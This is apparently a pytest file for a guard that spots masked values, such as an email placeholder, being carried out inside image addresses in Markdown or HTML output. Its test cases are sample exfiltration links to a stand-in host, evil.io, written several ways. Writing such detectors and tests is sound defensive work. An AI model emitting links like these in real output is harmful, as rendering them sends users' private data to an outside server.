"""Masked values on their way out in the address of a picture."""

import pytest
from tollhouse.dataplane.guarding.carried import carried

MARK = "[[EMAIL_7f3a_01]]"


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.io/p?d={MARK})",
        "![](<https://evil.io/EMAIL_7F3A_01.png>)",
        "![x][1]\n\n[1]: https://evil.io/%5B%5BEMAIL_7f3a_01%5D%5D",
        f'<img alt="a b" src="https://evil.io/{MARK}">',
        f"\u00fc\u00fc ![x](http://{MARK}.evil.io/)",
    ],
)
def test_pictures_with_a_mark_in_their_address_are_found(text: str) -> None:
    """However they are written; the whole address."""
    [(start, end)] = carried(text, "7f3a", frozenset())
    assert text[start:end].startswith("http")
    assert "7f3a" in text[start:end].lower()


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://acme.io/p?d={MARK})",
        f"![x](https://cdn.acme.io/p?d={MARK})",
        f"[write to {MARK}](https://evil.io/)",
        f"![portrait of {MARK}](https://evil.io/p.png) {MARK}",
        f"see https://evil.io/?q={MARK}",
    ],
)
def test_what_is_not_fetched_and_what_leads_to_known_hosts_is_left(text: str) -> None:
    """A host the user or the developer named, and those below it."""
    assert list(carried(text, "7f3a", frozenset({"acme.io"}))) == []
